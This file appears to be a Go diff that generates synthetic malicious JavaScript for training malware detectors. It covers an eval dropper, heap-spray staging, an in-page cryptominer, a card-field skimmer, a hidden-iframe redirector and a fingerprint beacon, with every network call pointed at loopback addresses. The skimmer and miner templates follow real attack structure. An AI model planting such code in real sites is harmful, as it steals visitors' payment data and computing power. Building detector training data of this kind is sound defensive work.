@@ -1,0 +1,332 @@
+package corpus
+
+import (
+	"fmt"
+	"math/rand"
+	"strings"
+)
+
+// maliciousGenerators returns the six malicious program families, each
+// mimicking an attack class from the paper's background section. All
+// payloads are inert placeholders (random hex, loopback hosts): the
+// generators exist to give the detectors a malicious *code shape* to learn,
+// not to produce working malware.
+func maliciousGenerators() []generator {
+	return []generator{
+		{family: "eval-decoder", fn: genEvalDecoder},
+		{family: "driveby-staging", fn: genDriveByStaging},
+		{family: "cryptojacker", fn: genCryptojacker},
+		{family: "web-skimmer", fn: genWebSkimmer},
+		{family: "redirector", fn: genRedirector},
+		{family: "fingerprint-exfil", fn: genFingerprintExfil},
+	}
+}
+
+// genEvalDecoder emits the classic dropper pattern: a payload string is
+// assembled from character codes and fed to eval/unescape.
+func genEvalDecoder(rng *rand.Rand) string {
+	var b strings.Builder
+	key := 1 + rng.Intn(60)
+	n := 20 + rng.Intn(40)
+	codes := make([]string, n)
+	for i := range codes {
+		codes[i] = fmt.Sprintf("%d", 40+rng.Intn(80)+key)
+	}
+	fmt.Fprintf(&b, "var k = %d;\n", key)
+	fmt.Fprintf(&b, "var cs = [%s];\n", strings.Join(codes, ","))
+	fmt.Fprintf(&b, "var payload = \"\";\n")
+	switch rng.Intn(3) {
+	case 0:
+		fmt.Fprintf(&b, "for (var i = 0; i < cs.length; i++) {\n")
+		fmt.Fprintf(&b, "  payload += String.fromCharCode(cs[i] - k);\n")
+		fmt.Fprintf(&b, "}\n")
+	case 1:
+		fmt.Fprintf(&b, "var i = 0;\n")
+		fmt.Fprintf(&b, "while (i < cs.length) {\n")
+		fmt.Fprintf(&b, "  payload = payload + String.fromCharCode(cs[i] - k);\n")
+		fmt.Fprintf(&b, "  i++;\n")
+		fmt.Fprintf(&b, "}\n")
+	default:
+		fmt.Fprintf(&b, "function dec(arr, off) {\n")
+		fmt.Fprintf(&b, "  var acc = \"\";\n")
+		fmt.Fprintf(&b, "  for (var j = 0; j < arr.length; j++) {\n")
+		fmt.Fprintf(&b, "    acc += String.fromCharCode(arr[j] - off);\n")
+		fmt.Fprintf(&b, "  }\n")
+		fmt.Fprintf(&b, "  return acc;\n")
+		fmt.Fprintf(&b, "}\n")
+		fmt.Fprintf(&b, "payload = dec(cs, k);\n")
+	}
+	switch rng.Intn(3) {
+	case 0:
+		fmt.Fprintf(&b, "eval(payload);\n")
+	case 1:
+		fmt.Fprintf(&b, "var fn = new Function(payload);\n")
+		fmt.Fprintf(&b, "fn();\n")
+	default:
+		fmt.Fprintf(&b, "var decoded = unescape(payload);\n")
+		fmt.Fprintf(&b, "eval(decoded);\n")
+	}
+	if rng.Intn(2) == 0 {
+		fmt.Fprintf(&b, "var backup = \"%%75%%6e%%65%%73%%63\";\n")
+		fmt.Fprintf(&b, "var stage2 = unescape(backup + \"%s\");\n", hexString(rng, 8))
+		fmt.Fprintf(&b, "setTimeout(function() { eval(stage2); }, %d);\n", 100+rng.Intn(900))
+	}
+	// Environment check (anti-analysis).
+	if rng.Intn(2) == 0 {
+		fmt.Fprintf(&b, "if (typeof window.callPhantom === \"function\") {\n")
+		fmt.Fprintf(&b, "  payload = \"\";\n")
+		fmt.Fprintf(&b, "}\n")
+	}
+	return b.String()
+}
+
+// genDriveByStaging emits browser-exploit staging: long sprayed strings,
+// version sniffing, ActiveX probing, and a shellcode-shaped byte array.
+func genDriveByStaging(rng *rand.Rand) string {
+	var b strings.Builder
+	sprayCount := 50 + rng.Intn(200)
+	fmt.Fprintf(&b, "var spray = [];\n")
+	fmt.Fprintf(&b, "var block = unescape(\"%%u%s%%u%s\");\n", hexString(rng, 4), hexString(rng, 4))
+	fmt.Fprintf(&b, "while (block.length < %d) { block += block; }\n", 0x1000+rng.Intn(0x4000))
+	fmt.Fprintf(&b, "for (var i = 0; i < %d; i++) {\n", sprayCount)
+	fmt.Fprintf(&b, "  spray[i] = block.substring(0, block.length - 1) + \"%s\";\n", hexString(rng, 4))
+	fmt.Fprintf(&b, "}\n")
+	fmt.Fprintf(&b, "var sc = [];\n")
+	scLen := 16 + rng.Intn(48)
+	fmt.Fprintf(&b, "for (var j = 0; j < %d; j++) {\n", scLen)
+	fmt.Fprintf(&b, "  sc.push((j * %d + %d) & 0xff);\n", 3+rng.Intn(9), rng.Intn(256))
+	fmt.Fprintf(&b, "}\n")
+	fmt.Fprintf(&b, "var agent = navigator.userAgent.toLowerCase();\n")
+	fmt.Fprintf(&b, "var vulnerable = agent.indexOf(\"msie %d\") >= 0;\n", 6+rng.Intn(4))
+	fmt.Fprintf(&b, "if (vulnerable) {\n")
+	fmt.Fprintf(&b, "  try {\n")
+	fmt.Fprintf(&b, "    var ax = new ActiveXObject(\"%s.%s\");\n",
+		[]string{"Msxml2", "Shell", "WScript", "Scripting"}[rng.Intn(4)],
+		[]string{"XMLHTTP", "Application", "Shell", "FileSystemObject"}[rng.Intn(4)])
+	fmt.Fprintf(&b, "    ax.setAttribute(\"src\", \"http://127.0.0.1/%s\");\n", hexString(rng, 12))
+	fmt.Fprintf(&b, "  } catch (e) {\n")
+	fmt.Fprintf(&b, "    var fallback = spray[%d];\n", rng.Intn(sprayCount))
+	fmt.Fprintf(&b, "    document.write(\"<embed src='\" + fallback.length + \"'>\");\n")
+	fmt.Fprintf(&b, "  }\n")
+	fmt.Fprintf(&b, "}\n")
+	return b.String()
+}
+
+// genCryptojacker emits an in-page miner: a hashing worker loop throttled to
+// stay hidden, reporting shares to a pool.
+func genCryptojacker(rng *rand.Rand) string {
+	var b strings.Builder
+	throttle := 10 + rng.Intn(80)
+	fmt.Fprintf(&b, "var nonce = %d;\n", rng.Intn(1000000))
+	fmt.Fprintf(&b, "var sharesFound = 0;\n")
+	fmt.Fprintf(&b, "var target = 0x%s;\n", hexString(rng, 6))
+	fmt.Fprintf(&b, "function mixHash(seed) {\n")
+	fmt.Fprintf(&b, "  var h = seed | 0;\n")
+	rounds := 500 + rng.Intn(2000)
+	mul := []int{1103515245, 134775813, 69069, 22695477}[rng.Intn(4)]
+	switch rng.Intn(3) {
+	case 0:
+		fmt.Fprintf(&b, "  for (var i = 0; i < %d; i++) {\n", rounds)
+		fmt.Fprintf(&b, "    h = (h * %d + %d) & 0x7fffffff;\n", mul, 12345+rng.Intn(1000))
+		fmt.Fprintf(&b, "    h = h ^ (h >> %d);\n", 7+rng.Intn(16))
+		fmt.Fprintf(&b, "  }\n")
+	case 1:
+		fmt.Fprintf(&b, "  var i = %d;\n", rounds)
+		fmt.Fprintf(&b, "  while (i > 0) {\n")
+		fmt.Fprintf(&b, "    h = (h ^ (h << %d)) + %d & 0x7fffffff;\n", 3+rng.Intn(8), mul%100000)
+		fmt.Fprintf(&b, "    i = i - 1;\n")
+		fmt.Fprintf(&b, "  }\n")
+	default:
+		fmt.Fprintf(&b, "  var i = 0;\n")
+		fmt.Fprintf(&b, "  do {\n")
+		fmt.Fprintf(&b, "    h = (h * %d) %% %d + (h >> %d);\n", mul%1000, 104729+rng.Intn(10000), 5+rng.Intn(10))
+		fmt.Fprintf(&b, "    i++;\n")
+		fmt.Fprintf(&b, "  } while (i < %d);\n", rounds)
+	}
+	fmt.Fprintf(&b, "  return h;\n")
+	fmt.Fprintf(&b, "}\n")
+	fmt.Fprintf(&b, "function mineRound() {\n")
+	fmt.Fprintf(&b, "  var start = Date.now();\n")
+	fmt.Fprintf(&b, "  while (Date.now() - start < %d) {\n", throttle)
+	fmt.Fprintf(&b, "    var h = mixHash(nonce);\n")
+	fmt.Fprintf(&b, "    nonce++;\n")
+	fmt.Fprintf(&b, "    if (h < target) {\n")
+	fmt.Fprintf(&b, "      sharesFound++;\n")
+	fmt.Fprintf(&b, "      submitShare(nonce, h);\n")
+	fmt.Fprintf(&b, "    }\n")
+	fmt.Fprintf(&b, "  }\n")
+	fmt.Fprintf(&b, "  setTimeout(mineRound, %d);\n", 1+rng.Intn(20))
+	fmt.Fprintf(&b, "}\n")
+	fmt.Fprintf(&b, "function submitShare(n, h) {\n")
+	fmt.Fprintf(&b, "  var img = new Image();\n")
+	fmt.Fprintf(&b, "  img.src = \"http://127.0.0.1/pool?n=\" + n + \"&h=\" + h + \"&s=%s\";\n", hexString(rng, 8))
+	fmt.Fprintf(&b, "}\n")
+	if rng.Intn(2) == 0 {
+		fmt.Fprintf(&b, "if (navigator.hardwareConcurrency > %d) {\n", 1+rng.Intn(4))
+		fmt.Fprintf(&b, "  mineRound();\n")
+		fmt.Fprintf(&b, "} else {\n")
+		fmt.Fprintf(&b, "  setTimeout(mineRound, %d);\n", 5000+rng.Intn(10000))
+		fmt.Fprintf(&b, "}\n")
+	} else {
+		fmt.Fprintf(&b, "document.addEventListener(\"visibilitychange\", function() {\n")
+		fmt.Fprintf(&b, "  if (document.hidden) { mineRound(); }\n")
+		fmt.Fprintf(&b, "});\n")
+		fmt.Fprintf(&b, "mineRound();\n")
+	}
+	return b.String()
+}
+
+// genWebSkimmer emits a Magecart-style form skimmer: hooks payment fields,
+// serializes values, and beacons them out.
+func genWebSkimmer(rng *rand.Rand) string {
+	var b strings.Builder
+	exfil := fmt.Sprintf("http://127.0.0.1/%s", hexString(rng, 10))
+	fields := []string{"cardnumber", "cvv", "expiry", "cardholder", "billing"}
+	picked := fields[:2+rng.Intn(3)]
+	fmt.Fprintf(&b, "var hooked = {};\n")
+	fmt.Fprintf(&b, "var grabTargets = [")
+	for i, f := range picked {
+		if i > 0 {
+			fmt.Fprintf(&b, ", ")
+		}
+		fmt.Fprintf(&b, "\"%s\"", f)
+	}
+	fmt.Fprintf(&b, "];\n")
+	fmt.Fprintf(&b, "function grabFields() {\n")
+	fmt.Fprintf(&b, "  var stolen = {};\n")
+	fmt.Fprintf(&b, "  for (var i = 0; i < grabTargets.length; i++) {\n")
+	fmt.Fprintf(&b, "    var el = document.querySelector(\"input[name=\" + grabTargets[i] + \"]\");\n")
+	fmt.Fprintf(&b, "    if (el && el.value) { stolen[grabTargets[i]] = el.value; }\n")
+	fmt.Fprintf(&b, "  }\n")
+	fmt.Fprintf(&b, "  return stolen;\n")
+	fmt.Fprintf(&b, "}\n")
+	fmt.Fprintf(&b, "function sendLoot(data) {\n")
+	fmt.Fprintf(&b, "  var enc = btoa(JSON.stringify(data));\n")
+	switch rng.Intn(3) {
+	case 0:
+		fmt.Fprintf(&b, "  var pixel = new Image();\n")
+		fmt.Fprintf(&b, "  pixel.src = \"%s?d=\" + enc;\n", exfil)
+	case 1:
+		fmt.Fprintf(&b, "  var xhr = new XMLHttpRequest();\n")
+		fmt.Fprintf(&b, "  xhr.open(\"POST\", \"%s\", true);\n", exfil)
+		fmt.Fprintf(&b, "  xhr.send(enc);\n")
+	default:
+		fmt.Fprintf(&b, "  var s = document.createElement(\"script\");\n")
+		fmt.Fprintf(&b, "  s.src = \"%s?cb=x&d=\" + enc;\n", exfil)
+		fmt.Fprintf(&b, "  document.body.appendChild(s);\n")
+	}
+	fmt.Fprintf(&b, "}\n")
+	fmt.Fprintf(&b, "function hookCheckout() {\n")
+	fmt.Fprintf(&b, "  var buttons = document.querySelectorAll(\"button, input[type=submit]\");\n")
+	fmt.Fprintf(&b, "  for (var i = 0; i < buttons.length; i++) {\n")
+	fmt.Fprintf(&b, "    if (hooked[i]) { continue; }\n")
+	fmt.Fprintf(&b, "    hooked[i] = true;\n")
+	fmt.Fprintf(&b, "    buttons[i].addEventListener(\"click\", function() {\n")
+	fmt.Fprintf(&b, "      var loot = grabFields();\n")
+	fmt.Fprintf(&b, "      var count = 0;\n")
+	fmt.Fprintf(&b, "      for (var key in loot) { count++; }\n")
+	fmt.Fprintf(&b, "      if (count > 0) { sendLoot(loot); }\n")
+	fmt.Fprintf(&b, "    });\n")
+	fmt.Fprintf(&b, "  }\n")
+	fmt.Fprintf(&b, "}\n")
+	fmt.Fprintf(&b, "setInterval(hookCheckout, %d);\n", 500+rng.Intn(2500))
+	if rng.Intn(2) == 0 {
+		fmt.Fprintf(&b, "window.addEventListener(\"beforeunload\", function() {\n")
+		fmt.Fprintf(&b, "  var last = grabFields();\n")
+		fmt.Fprintf(&b, "  sendLoot(last);\n")
+		fmt.Fprintf(&b, "});\n")
+	}
+	return b.String()
+}
+
+// genRedirector emits hidden-iframe injection and conditional redirects.
+func genRedirector(rng *rand.Rand) string {
+	var b strings.Builder
+	dest := fmt.Sprintf("http://127.0.0.1/%s", hexString(rng, 10))
+	fmt.Fprintf(&b, "var visited = document.cookie.indexOf(\"_seen%d\") >= 0;\n", rng.Intn(100))
+	fmt.Fprintf(&b, "function dropFrame() {\n")
+	fmt.Fprintf(&b, "  var frame = document.createElement(\"iframe\");\n")
+	fmt.Fprintf(&b, "  frame.src = \"%s\";\n", dest)
+	fmt.Fprintf(&b, "  frame.width = \"%d\";\n", rng.Intn(3))
+	fmt.Fprintf(&b, "  frame.height = \"%d\";\n", rng.Intn(3))
+	fmt.Fprintf(&b, "  frame.style.visibility = \"hidden\";\n")
+	fmt.Fprintf(&b, "  frame.style.position = \"absolute\";\n")
+	fmt.Fprintf(&b, "  frame.style.left = \"-%d px\";\n", 1000+rng.Intn(9000))
+	fmt.Fprintf(&b, "  document.body.appendChild(frame);\n")
+	fmt.Fprintf(&b, "}\n")
+	fmt.Fprintf(&b, "function maybeRedirect() {\n")
+	fmt.Fprintf(&b, "  var ref = document.referrer.toLowerCase();\n")
+	fmt.Fprintf(&b, "  var fromSearch = ref.indexOf(\"google\") >= 0 || ref.indexOf(\"bing\") >= 0;\n")
+	fmt.Fprintf(&b, "  if (fromSearch && !visited) {\n")
+	fmt.Fprintf(&b, "    document.cookie = \"_seen%d=1; path=/\";\n", rng.Intn(100))
+	switch rng.Intn(3) {
+	case 0:
+		fmt.Fprintf(&b, "    location.href = \"%s?r=\" + encodeURIComponent(ref);\n", dest)
+	case 1:
+		fmt.Fprintf(&b, "    window.location.replace(\"%s\");\n", dest)
+	default:
+		fmt.Fprintf(&b, "    top.location = \"%s\" + \"?u=\" + escape(location.href);\n", dest)
+	}
+	fmt.Fprintf(&b, "  } else {\n")
+	fmt.Fprintf(&b, "    dropFrame();\n")
+	fmt.Fprintf(&b, "  }\n")
+	fmt.Fprintf(&b, "}\n")
+	if rng.Intn(2) == 0 {
+		fmt.Fprintf(&b, "document.write(\"<div id='c%s'></div>\");\n", hexString(rng, 6))
+		fmt.Fprintf(&b, "setTimeout(maybeRedirect, %d);\n", 200+rng.Intn(3000))
+	} else {
+		fmt.Fprintf(&b, "window.onload = maybeRedirect;\n")
+	}
+	return b.String()
+}
+
+// genFingerprintExfil emits aggressive fingerprint collection (the privacy
+// threat the paper's introduction names) with exfiltration.
+func genFingerprintExfil(rng *rand.Rand) string {
+	var b strings.Builder
+	exfil := fmt.Sprintf("http://127.0.0.1/%s", hexString(rng, 10))
+	fmt.Fprintf(&b, "function collectPrint() {\n")
+	fmt.Fprintf(&b, "  var fp = {};\n")
+	fmt.Fprintf(&b, "  fp.ua = navigator.userAgent;\n")
+	fmt.Fprintf(&b, "  fp.lang = navigator.language;\n")
+	fmt.Fprintf(&b, "  fp.platform = navigator.platform;\n")
+	fmt.Fprintf(&b, "  fp.screen = screen.width + \"x\" + screen.height + \"x\" + screen.colorDepth;\n")
+	fmt.Fprintf(&b, "  fp.tz = new Date().getTimezoneOffset();\n")
+	fmt.Fprintf(&b, "  fp.cookies = navigator.cookieEnabled;\n")
+	if rng.Intn(2) == 0 {
+		fmt.Fprintf(&b, "  fp.plugins = [];\n")
+		fmt.Fprintf(&b, "  for (var i = 0; i < navigator.plugins.length; i++) {\n")
+		fmt.Fprintf(&b, "    fp.plugins.push(navigator.plugins[i].name);\n")
+		fmt.Fprintf(&b, "  }\n")
+	}
+	fmt.Fprintf(&b, "  var canvas = document.createElement(\"canvas\");\n")
+	fmt.Fprintf(&b, "  var ctx = canvas.getContext(\"2d\");\n")
+	fmt.Fprintf(&b, "  ctx.fillText(\"%s\", %d, %d);\n", hexString(rng, 8), 1+rng.Intn(20), 1+rng.Intn(20))
+	fmt.Fprintf(&b, "  fp.canvas = canvas.toDataURL().slice(-%d);\n", 16+rng.Intn(48))
+	fmt.Fprintf(&b, "  return fp;\n")
+	fmt.Fprintf(&b, "}\n")
+	fmt.Fprintf(&b, "function hashPrint(fp) {\n")
+	fmt.Fprintf(&b, "  var str = JSON.stringify(fp);\n")
+	fmt.Fprintf(&b, "  var h = %d;\n", rng.Intn(10000))
+	fmt.Fprintf(&b, "  for (var i = 0; i < str.length; i++) {\n")
+	fmt.Fprintf(&b, "    h = ((h << 5) - h + str.charCodeAt(i)) | 0;\n")
+	fmt.Fprintf(&b, "  }\n")
+	fmt.Fprintf(&b, "  return h;\n")
+	fmt.Fprintf(&b, "}\n")
+	fmt.Fprintf(&b, "var print = collectPrint();\n")
+	fmt.Fprintf(&b, "var uid = hashPrint(print);\n")
+	switch rng.Intn(2) {
+	case 0:
+		fmt.Fprintf(&b, "var beacon = new Image();\n")
+		fmt.Fprintf(&b, "beacon.src = \"%s?uid=\" + uid + \"&d=\" + btoa(JSON.stringify(print));\n", exfil)
+	default:
+		fmt.Fprintf(&b, "var req = new XMLHttpRequest();\n")
+		fmt.Fprintf(&b, "req.open(\"POST\", \"%s\", true);\n", exfil)
+		fmt.Fprintf(&b, "req.send(btoa(JSON.stringify(print)) + \".\" + uid);\n")
+	}
+	fmt.Fprintf(&b, "document.cookie = \"_uid=\" + uid + \"; expires=Fri, 01 Jan 2100 00:00:00 GMT\";\n")
+	if rng.Intn(2) == 0 {
+		fmt.Fprintf(&b, "localStorage.setItem(\"_uid%d\", String(uid));\n", rng.Intn(100))
+	}
+	return b.String()
+}
